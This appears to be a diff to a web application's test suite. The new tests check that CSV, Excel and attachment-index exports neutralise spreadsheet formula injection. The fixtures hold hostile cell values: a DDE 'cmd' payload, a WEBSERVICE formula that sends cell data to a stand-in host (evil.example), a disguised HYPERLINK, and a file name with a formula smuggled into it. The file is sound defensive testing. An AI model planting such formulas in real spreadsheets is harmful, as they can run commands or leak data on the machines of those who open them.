@@ -15,6 +15,7 @@ from discussions.models import Comment
 from hub.models import StakeholderGroup
 from tests.discussions.secretariat_data import (
     KnownSet,
+    make_export_attachment,
     make_comments,
     make_export_comment,
     make_export_discussion,
@@ -235,7 +236,9 @@ def test_neutralise_prefixes_every_formula_start_and_leaves_the_rest():
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert neutralise(f"{start}x") == f"'{start}x"
     assert neutralise("plain") == "plain"
-    assert neutralise(" =not at start") == " =not at start"
+    assert neutralise("a =not at start") == "a =not at start"
+    # Blanks before the formula do not hide it (hub/spreadsheets.py; tests/hub/test_spreadsheets.py for the rest).
+    assert neutralise(" =after a space") == "' =after a space"
     assert neutralise(42) == 42
     assert neutralise("") == ""
 
@@ -370,3 +373,115 @@ def test_the_csv_export_takes_a_fixed_number_of_queries(secretariat_client, djan
         response = secretariat_client.get(reverse("discussions:secretariat-export-csv"))
         _, rows, _ = read_csv(response)
     assert len(rows) == size
+
+
+# --- Hostile cells (issue 9): a formula hidden behind a control character, a blank or a separator -----------------
+
+HOSTILE = {
+    "control": "\x01=HYPERLINK(\"http://evil.example\",\"Click\")",
+    "tab": "\t=1+1",
+    "space": " =cmd|' /C calc'!A0",
+    "separator": "Agreed;=WEBSERVICE(\"http://evil.example/?\"&A1)",
+}
+
+
+def _hostile_comment(discussion, value: str) -> Comment:
+    comment = make_export_comment(discussion, body="<p>x</p>")
+    # Written straight to the columns: the snapshot of a profile, or an imported comment, can hold anything.
+    Comment.objects.filter(pk=comment.pk).update(author_name=value, author_organisation=value, body_text=value)
+    return comment
+
+
+def _hostile_interest(group, value: str):
+    from workplan.models import InterestExpression
+
+    interest = InterestExpression.objects.create(working_group=group, organisation=make_user().profile.organisation,
+                                                 message="x", role=InterestExpression.Role.MEMBER)
+    InterestExpression.objects.filter(pk=interest.pk).update(message=value)
+    return interest
+
+
+def _starts_no_formula(text: str) -> None:
+    from hub.spreadsheets import is_formula
+
+    assert not is_formula(text), repr(text)
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_no_hidden_formula_reaches_the_csv_in_any_cell_however_the_line_is_split(secretariat_client, kind):
+    value = HOSTILE[kind]
+    discussion = make_export_discussion()
+    comment = _hostile_comment(discussion, value)
+    _, rows, _ = read_csv(secretariat_client.get(reverse("discussions:secretariat-export-csv")))
+    (row,) = rows
+    for column in ("Author (as shown)", "Personal name", "Organisation", "Comment (plain text)"):
+        cell = row[column]
+        assert cell.startswith("'") or kind == "separator", (column, cell)
+        # Read by a program that splits on another separator than ours, no piece starts a formula either.
+        for separator in ";,\t":
+            for piece in cell.split(separator):
+                _starts_no_formula(piece)
+    assert row["Comment id"] == str(comment.pk)
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_no_cell_of_the_excel_workbook_is_a_formula_and_hidden_ones_are_neutralised(secretariat_client, tmp_path,
+                                                                                    kind):
+    value = HOSTILE[kind]
+    discussion = make_export_discussion()
+    _hostile_comment(discussion, value)
+    _hostile_interest(make_working_group(workplan=discussion.workplan), value)
+    response = secretariat_client.get(reverse("discussions:secretariat-export-xlsx"))
+    path = tmp_path / "f.xlsx"
+    path.write_bytes(b"".join(response.streaming_content))
+    workbook = load_workbook(path)
+    texts = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    _starts_no_formula(cell.value)
+    comments = workbook["All comments"]
+    header = [c.value for c in comments[1]]
+    row = {h: c.value for h, c in zip(header, comments[2])}
+    expected = "'" + value.lstrip("\x01") if kind != "separator" else value
+    for column in ("Author (as shown)", "Personal name", "Organisation", "Comment (plain text)"):
+        assert row[column] == expected, column
+    interest = list(workbook["Interest in working groups"].iter_rows(values_only=True))
+    assert interest[1][6] == expected
+
+
+
+def test_the_excel_writer_stores_text_as_text_even_if_nothing_neutralised_it(tmp_path):
+    """A second guard, independent of neutralise(): text that openpyxl would store as a formula or an error is
+    written with the string type."""
+    from openpyxl import Workbook
+    from openpyxl.styles import Alignment, Font, PatternFill
+
+    from discussions.export import Column, _Sheet
+
+    styles = {"bold": Font(bold=True), "fill": PatternFill("solid", fgColor="DDE7F3"), "header": Alignment(),
+              "wrap": Alignment(wrap_text=True)}
+    workbook = Workbook(write_only=True)
+    sheet = _Sheet(workbook, "S", (Column("a", "A", 10), Column("b", "B", 10, True), Column("c", "C", 10)), styles)
+    sheet.append(["=1+1", "=2+2", "#N/A"])
+    sheet.append(["=3+3", 5, "=4+4"])
+    sheet.append(["plain", "text", 7])
+    path = tmp_path / "s.xlsx"
+    workbook.save(path)
+    rows = list(load_workbook(path)["S"].iter_rows(min_row=2))
+    assert [[c.value for c in row] for row in rows] == [["=1+1", "=2+2", "#N/A"], ["=3+3", 5, "=4+4"],
+                                                        ["plain", "text", 7]]
+    assert [[c.data_type for c in row] for row in rows] == [["s", "s", "s"], ["s", "n", "s"], ["s", "s", "n"]]
+
+def test_the_attachments_index_neutralises_hidden_formulas_too(secretariat_client):
+    discussion = make_export_discussion()
+    comment = _hostile_comment(discussion, HOSTILE["control"])
+    make_export_attachment(comment, name="\x01=cmd;=1.pdf")
+    response = secretariat_client.get(reverse("discussions:secretariat-export-attachments"))
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    index = list(csv.reader(io.StringIO(archive.read("attachments.csv").decode("utf-8-sig"))))
+    assert index[1][1] == "'=cmd;'=1.pdf"
+    assert index[1][4] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"
